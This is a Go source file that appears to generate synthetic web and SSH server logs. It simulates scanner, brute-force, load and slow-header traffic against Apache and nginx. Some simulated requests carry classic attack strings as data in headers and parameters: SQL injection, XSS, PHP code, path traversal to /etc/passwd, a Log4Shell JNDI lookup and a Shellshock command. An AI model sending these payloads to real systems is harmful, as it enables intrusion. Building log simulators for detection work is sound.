package truth

import (
	_ "embed"
	"fmt"
	"net/url"
	"strings"
	"time"
)

// payloads are what is sent in parameters, by the language that it is meant for.
//
//go:embed payloads.txt
var payloadsText string

var payloads = themes(payloadsText)

// Those who do what real runs of scanners did (sqlmap, wapiti, wfuzz, dirb, gobuster, ffuf, nmap, hydra, patator, whatweb,
// slowhttptest, siege against Apache and nginx), and those who ask for one hole alone.
var toolKinds = []Kind{
	{Name: "one-probe", play: func(w *World) {
		a := w.guesser(time.Minute)
		a.get(a.pick(paths["probes"]...), a.choose(404, 404, 404, 403, a.site.missing))
	}},
	{Name: "probes-some", play: func(w *World) {
		a := w.guesser(10 * time.Minute)
		for _, p := range a.some(a.from(5, 40), paths["probes"]) {
			a.get(p, a.choose(404, 404, 403, a.site.missing))
			a.pause(50*time.Millisecond, 8*time.Second)
		}
	}},
	{Name: "one-payload", play: func(w *World) {
		a := w.guesser(time.Minute)
		a.get(a.payload(), a.choose(200, 200, 404, 500, 403))
	}},
	{Name: "payloads-some", play: func(w *World) {
		a := w.guesser(5 * time.Minute)
		for range a.from(4, 40) {
			a.get(a.payload(), a.choose(200, 200, 404, 500, 403))
			a.pause(20*time.Millisecond, 3*time.Second)
		}
	}},
	{Name: "odd-characters", play: func(w *World) { // wfuzz with its list of characters
		a := w.guesser(5 * time.Minute)
		path := a.pick("/article.php?id=", "/item?n=", "/view.php?page=")
		for _, c := range a.some(a.from(14, 22), []string{"%", "%ff", "%3e", "%3c", "!", "=", ";", "-1", "+", "-", "*", "%0d", "%0a", "_", ",", "'", "%n", "%5c", "%s", "%22", "(", ")", "%60", "|", "$", "~"}) {
			a.get(path+c, a.choose(200, 200, 500))
			a.pause(5*time.Millisecond, time.Second)
		}
	}},
	{Name: "directory-words", play: func(w *World) { // dirb, gobuster, ffuf on the first level
		a := w.guesser(10 * time.Minute)
		missing := a.site.missing
		if missing == 200 || missing == 301 { // then they stop, for they cannot tell
			missing = 404
		}
		if a.chance(0.3) {
			a.get("/randomfile1", missing)
			a.get("/frand2", missing)
		}
		slow := a.chance(0.25)
		for range a.from(90, 600) {
			a.get("/"+a.word()+a.pick("", "", "/", ".php", ".html", ".bak"), missing)
			if slow {
				a.pause(500*time.Millisecond, 1500*time.Millisecond)
			} else {
				a.pause(time.Millisecond, 60*time.Millisecond)
			}
		}
	}},
	{Name: "attack-in-header", play: func(w *World) { // the parameters had no hole, so they try the rest
		a := w.guesser(5 * time.Minute)
		for range a.from(2, 12) {
			agent := a.agent
			text := a.pick("' or 1=1-- ", "1' union select 1,2,3-- ", "<script>alert(1)</script>", "<?php phpinfo();?>", "../../../../etc/passwd", "|| sleep 5", "${jndi:ldap://198.51.100.1/a}", "\"><svg/onload=alert(1)>", "() { :; }; /bin/id", "{{7*7}}", "system('id')", "1 AND SLEEP(5)", "';waitfor delay '0:0:5'--", "; cat /etc/passwd ")
			if a.chance(0.5) {
				a.agent += text
			} else {
				a.referer = "https://" + a.site.host + "/?x=" + text
			}
			a.get(a.article(), 200)
			a.agent, a.referer = agent, "-"
			a.pause(200*time.Millisecond, 5*time.Second)
		}
	}},
	{Name: "load-tool", play: func(w *World) { // siege and its like: everything of a page, without saying from where
		a := w.actor(5 * time.Minute)
		a.agent = a.browser()
		for range a.from(7000, 9000) {
			a.get(a.pick("/", "/css/main.css", "/js/app.js", a.site.pages[a.IntN(20)]), 200)
			a.pause(0, 10*time.Millisecond)
		}
	}},
	{Name: "slow-headers", play: func(w *World) { // never ends its headers: nginx says 400 with nothing, Apache 408
		a := w.actor(10 * time.Minute)
		status := 408
		if a.site.form >= nginxForm {
			status = 400
		}
		a.referer = a.pick("-", "TESTING_PURPOSES_ONLY")
		for range a.from(60, 400) {
			a.ask("GET", "/", status, 0)
			a.pause(0, 2*time.Second)
		}
	}},
	{Name: "one-agent-many-logins", Mass: true, play: func(w *World) { // bought addresses, one script
		agent := fmt.Sprintf("Mozilla/5.0 (X11; Linux x86_64; rv:%d.0) Gecko/20100101 Firefox/%d.0 %s", w.from(40, 70), w.from(40, 70), w.letters(5))
		path, status := w.pick("/login", "/account/login", "/users/sign_in", "/customer/account/loginPost/"), w.choose(401, 403, 422)
		if path[1] == 'c' {
			path = "/login.php"
		}
		w.spread(w.from(80, 300), 5*time.Minute, 15*time.Minute, func(a *actor) {
			a.agent = agent
			for range a.from(1, 3) {
				a.post(path, status)
				a.pause(time.Second, 20*time.Second)
			}
		})
	}},
	{Name: "ssh-left", play: func(w *World) { // keys that the server does not take
		a := w.actor(2 * time.Hour)
		for range a.from(7, 60) {
			a.ssh("Connection closed by authenticating user %s %s [preauth]", a.pick("root", "root", "admin", "git"), a.peer())
			a.pause(time.Second, 2*time.Minute)
		}
	}},
}

// payload is a page with one of the payloads in a parameter.
func (a *actor) payload() string {
	text := a.pick(payloads[a.pick("sql", "sql", "script", "script", "files", "shell", "php", "code", "others")]...)
	if !strings.Contains(text, "%") {
		text = url.QueryEscape(text)
	} else {
		text = strings.NewReplacer(" ", "%20", `"`, "%22", "<", "%3C", ">", "%3E", "#", "%23", "&", "%26").Replace(text)
	}
	return a.pick("/", "/index.php", "/get", "/view", "/api/items", "/"+a.word()+".php") + "?" + a.pick("", "", "a=1&") + a.pick("x", "id", "test", "foo", "arg", "v", "data", "page", "name", "var") + "=" + text
}
